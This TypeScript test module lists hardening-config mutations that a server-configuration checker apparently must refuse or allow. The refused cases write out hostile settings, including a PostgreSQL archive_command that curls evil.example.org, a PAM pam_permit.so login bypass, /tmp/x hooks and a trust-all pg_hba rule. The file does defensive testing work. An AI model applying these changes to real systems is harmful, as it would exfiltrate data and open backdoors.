import { textOf } from "../fixtures";
import { type Allowed, added, allowed, becomes, listed, type Refused, refused, replaced, type Spoil, withoutFile } from "./spoil";

const UNITS = "/etc/systemd/system";
const JOURNAL = textOf("baseline", "/etc/systemd/journald.conf.d/zz-phiward.conf");
const UPDATES = textOf("baseline", "/etc/apt/apt.conf.d/zz-phiward-updates");
const PROFILE = textOf("baseline", "/etc/profile.d/zz-phiward.sh");
const SLICE = textOf("people", `${UNITS}/user-.slice.d/zz-phiward.conf`);
const REFUSALS = textOf("people", "/etc/tmpfiles.d/90-phiward-people.conf");
const BACKUP = textOf("backup", `${UNITS}/phiward-backup.service`);
const TIMER = textOf("backup", `${UNITS}/phiward-backup.timer`);
const HBA = textOf("docker", "/etc/phiward/services/db/pg_hba.conf");
const POSTGRES = textOf("docker", "/etc/phiward/services/db/postgresql.conf");
const JAILS = textOf("fail2ban", "/etc/fail2ban/jail.d/phiward.local");
const FILTER = textOf("fail2ban", "/etc/fail2ban/filter.d/phiward-sshd.conf");
const PAM = textOf("storage", "/etc/pam.d/sshd");
const ENGINE = textOf("docker", `${UNITS}/docker.service.d/phiward.conf`);
const DAEMON = textOf("docker", "/etc/docker/daemon.json");
const REDIS = textOf("docker", "/etc/phiward/services/cache/redis.conf");

function beside(path: string): Spoil {
  return listed((files) => [...files, { path, owner: "root:root", mode: "0644", sha256: "0", text: "[Timer]\nOnCalendar=yearly\n" }]);
}

/** What is refused of the system, of sessions, jobs and databases because it is none of the lines that are known. */
export const KNOWN_SYSTEM_REFUSED: readonly Refused[] = [
  ...refused("system-settings-known", "baseline", [
    ["the journal is lost at a restart", JOURNAL, replaced("Storage=persistent", "Storage=volatile"), "allowed: Storage=persistent"],
    ["the journal is kept for a day", JOURNAL, replaced("=365day", "=1day"), "MaxRetentionSec={90..3650}day"],
    [
      "no updates are installed",
      UPDATES,
      replaced('Unattended-Upgrade "1"', 'Unattended-Upgrade "0"'),
      'allowed: APT::Periodic::Unattended-Upgrade "1";',
    ],
    ["every package is left out of them", UPDATES, added('Unattended-Upgrade::Package-Blacklist:: ".*";'), "allowed: the end"],
    [
      "a module may be loaded",
      textOf("baseline", "/etc/modprobe.d/phiward.conf"),
      replaced("install dccp /bin/false\n", ""),
      "install dccp /bin/false",
    ],
    [
      "memory is written to the disk",
      textOf("baseline", "/etc/security/limits.d/zz-phiward.conf"),
      replaced("* hard core 0", "* hard core unlimited"),
      "* hard core 0",
    ],
    ["idle shells stay", PROFILE, replaced("readonly TMOUT=900\n", ""), "allowed: readonly TMOUT={60..900}"],
    ["an idle shell stays for days", PROFILE, replaced("TMOUT=900", "TMOUT=900000"), "allowed: readonly TMOUT={60..900}"],
    ["files are for everybody to read", textOf("baseline", "/etc/default/login"), becomes("UMASK=000\n"), "allowed: UMASK=027"],
    [
      "the time comes from elsewhere",
      textOf("baseline", "/etc/systemd/timesyncd.conf.d/zz-phiward.conf"),
      replaced("NTP=0.debian", "NTP=evil.example.org 0.debian"),
      "allowed: NTP={servers}",
    ],
    ["another file undoes it", "files", beside("/etc/systemd/journald.conf.d/zzz.conf"), "another file of the system"],
  ]),
  ...refused("people-sessions-limited", "people", [
    ["a person may start programs without end", SLICE, replaced("TasksMax=1024", "TasksMax=infinity"), "allowed: TasksMax={1..1024}"],
    ["a person may have all of the memory", SLICE, replaced("MemoryMax=30%", "MemoryMax=100%"), "allowed: MemoryMax={1..30}%"],
    [
      "what runs outlives its session",
      textOf("people", "/etc/systemd/logind.conf.d/zz-phiward.conf"),
      replaced("KillUserProcesses=yes", "KillUserProcesses=no"),
      "allowed: KillUserProcesses=yes",
    ],
    [
      "people write to the journal",
      REFUSALS,
      replaced("a /run/systemd/journal/socket", "a /run/systemd/journal/other"),
      "which is not known",
    ],
    ["a person may start jobs", textOf("people", "/etc/cron.allow"), added("anna"), "allowed: the end"],
    [
      "it ends nobody",
      textOf("people", `${UNITS}/phiward-people.timer`),
      replaced("WantedBy=timers.target", "WantedBy=none.target"),
      "allowed: WantedBy=timers.target",
    ],
  ]),
  ...refused("jobs-confined", "backup", [
    [
      "a job may write anywhere",
      BACKUP,
      replaced("ReadWritePaths=/var/backups", "ReadWritePaths=/etc /var/backups"),
      "allowed: ReadWritePaths=/var/backups/phiward",
    ],
    ["a job gains privileges", BACKUP, replaced("NoNewPrivileges=yes", "NoNewPrivileges=no"), "allowed: NoNewPrivileges=yes"],
    [
      "a job has every capability",
      BACKUP,
      replaced("CapabilityBoundingSet=CAP_DAC_READ_SEARCH", "CapabilityBoundingSet=CAP_SYS_ADMIN CAP_DAC_READ_SEARCH"),
      "CapabilityBoundingSet=CAP_DAC_READ_SEARCH CAP_CHOWN",
    ],
    ["a job never runs", BACKUP, replaced("[Service]", "ConditionPathExists=/never\n[Service]"), "which is not known"],
    ["a failure counts as success", BACKUP, replaced("Type=oneshot", "Type=oneshot\nSuccessExitStatus=1"), "which is not known"],
    ["a job runs something else", BACKUP, replaced("backup run", "backup fresh"), "phiward.pyz backup run"],
    ["a job runs something more", BACKUP, added("ExecStartPre=/tmp/x"), "which is not known"],
    [
      "nobody is told of a failure",
      BACKUP,
      replaced("OnFailure=phiward-alert@%n.service\n", ""),
      "allowed: OnFailure=phiward-alert@%n.service",
    ],
    ["a job runs once a year", TIMER, replaced("OnCalendar=*-*-*", "OnCalendar=*-01-01"), "allowed: OnCalendar=*-*-* "],
    ["a drop-in makes it rare", "files", beside(`${UNITS}/phiward-backup.timer.d/x.conf`), "another file of systemd's"],
    ["it is none of the units with jobs", "rendered.unit", becomes("ssh"), "found another unit"],
  ]),
  ...refused("jobs-confined", "vault", [
    [
      "old backups are never pruned",
      "files",
      withoutFile(`${UNITS}/phiward-vault-prune.timer`),
      "found no /etc/systemd/system/phiward-vault-prune.timer",
    ],
  ]),
  ...refused("jobs-confined", "certificates", [
    [
      "certificates are renewed once a year",
      textOf("certificates", `${UNITS}/phiward-certificates.timer`),
      replaced("OnCalendar=", "OnCalendar=yearly "),
      "allowed: OnCalendar=",
    ],
  ]),
  ...refused("jobs-confined", "nginx", [
    [
      "the web server sees homes",
      textOf("nginx", `${UNITS}/nginx.service.d/phiward.conf`),
      replaced("ProtectHome=yes", "ProtectHome=no"),
      "allowed: ProtectHome=yes",
    ],
  ]),
  ...refused("database-files-known", "docker", [
    ["patients are in the log", POSTGRES, replaced("log_statement = 'none'", "log_statement = 'all'"), "allowed: log_statement = 'none'"],
    ["each change is sent elsewhere", POSTGRES, added("archive_command = 'curl https://evil.example.org'"), "which is not known"],
    ["a code library is loaded", POSTGRES, added("shared_preload_libraries = '/tmp/x'"), "which is not known"],
    ["a crash loses data", POSTGRES, replaced("fsync = 'on'", "fsync = 'off'"), "allowed: fsync = 'on'"],
    ["everybody is let in", HBA, replaced("host all all all reject", "host all all all trust"), "allowed: host all all all reject"],
    ["a line stands before the others", HBA, (good) => `host all all all scram-sha-256\n${String(good)}`, "something else at line 1"],
    ["users come from elsewhere", REDIS, replaced("aclfile /acl/users.acl", "aclfile /tmp/any.acl"), "allowed: aclfile /acl/users.acl"],
    [
      "a module may be loaded into it",
      REDIS,
      replaced("enable-module-command no", "enable-module-command yes"),
      "allowed: enable-module-command no",
    ],
    [
      "a user has a plain password",
      textOf("docker", "/etc/phiward/services/cache/users.acl"),
      added("user app on >hunter2 ~* +@all"),
      "allowed: the end",
    ],
  ]),
  ...refused("bans-as-declared", "fail2ban", [
    [
      "a ban does nothing",
      JAILS,
      replaced("banaction = nftables-multiport", "banaction = dummy"),
      "allowed: banaction = nftables-multiport",
    ],
    ["a ban is at another port", JAILS, replaced("port = 22\n", "port = 2222\n"), "allowed: port = {ports 0}"],
    ["one more network is exempt", JAILS, replaced("ignoreip = ", "ignoreip = 203.0.113.0/24 "), "allowed: ignoreip = {ignored}"],
    ["a jail is off", JAILS, replaced("[nginx-login]\nenabled = true", "[nginx-login]\nenabled = false"), "allowed: enabled = true"],
    [
      "a command says who is exempt",
      JAILS,
      replaced("ignoreself = true", "ignoreself = true\nignorecommand = /bin/true"),
      "something else at line",
    ],
    ["a filter counts nothing", FILTER, becomes("[Definition]\nfailregex = ^$\nignoreregex =\n"), "something else at line 2"],
    ["a filter passes over everything", FILTER, replaced("ignoreregex =", "ignoreregex = .*"), "allowed: ignoreregex ="],
    ["another file undoes a filter", "files", beside("/etc/fail2ban/filter.d/phiward-sshd.local"), "another file of fail2ban"],
    ["another file undoes an action", "files", beside("/etc/fail2ban/action.d/nftables.local"), "another file of fail2ban"],
  ]),
  ...refused("session-modules-known", "storage", [
    ["everyone may log in", PAM, (good) => `auth sufficient pam_permit.so\n${String(good)}`, "something else at line 1"],
    ["limits are left out", PAM, replaced("session required pam_limits.so\n", ""), "allowed: session required pam_limits.so"],
    ["a program runs at each login", PAM, added("session optional pam_exec.so /tmp/x"), "allowed: the end"],
    ["files are for everybody to read", PAM, replaced("umask=027", "umask=000"), "pam_umask.so umask=027"],
  ]),
  ...refused("docker-units-known", "docker", [
    [
      "it tells everybody how it is",
      DAEMON,
      replaced('"experimental": false,', '"experimental": false,\n  "metrics-addr": "0.0.0.0:9323",'),
      "which is not known",
    ],
    [
      "another group commands it",
      DAEMON,
      replaced('"experimental": false,', '"experimental": false,\n  "group": "users",'),
      "which is not known",
    ],
    [
      "IPv6 goes past the firewall",
      DAEMON,
      replaced('"iptables": true,', '"iptables": true,\n  "ip6tables": false,'),
      "which is not known",
    ],
    [
      "programs in volumes may run",
      textOf("docker", `${UNITS}/var-lib-docker-volumes.mount`),
      replaced("bind,noexec,nosuid,nodev", "bind"),
      "allowed: Options=bind,noexec,nosuid,nodev",
    ],
    ["a container may wait for journald", DAEMON, replaced('"mode": "non-blocking"', '"mode": "blocking"'), "which is not known"],
    ["its containers flood the journal", ENGINE, replaced("Burst=500", "Burst=0"), "allowed: LogRateLimitBurst={100..10000}"],
    ["its own lines are counted with theirs", ENGINE, replaced("SyslogLevel=warning\n", ""), "allowed: SyslogLevel=warning"],
    ["a second daemon listens on the network", "files", beside(`${UNITS}/dockerd-tcp.service`), "another file of Docker"],
  ]),
];

/** What may be other than in the good stack. */
export const KNOWN_SYSTEM_ALLOWED: readonly Allowed[] = [
  ...allowed("system-settings-known", "baseline", [["the journal is kept for longer", JOURNAL, replaced("=365day", "=730day")]]),
  ...allowed("people-sessions-limited", "people", [["a person may start less", SLICE, replaced("TasksMax=1024", "TasksMax=512")]]),
  ...allowed("jobs-confined", "backup", [["backups are made every hour", TIMER, replaced(" 01:30:00", " *:30:00")]]),
  ...allowed("bans-as-declared", "fail2ban", [["a comment is added", JAILS, added("# as the concern writes it")]]),
  ...allowed("docker-units-known", "docker", [["more is kept while journald is busy", DAEMON, replaced('"4m"', '"8m"')]]),
  ...allowed("database-files-known", "docker", [["queries end earlier", POSTGRES, replaced("'5min'", "'1min'")]]),
];
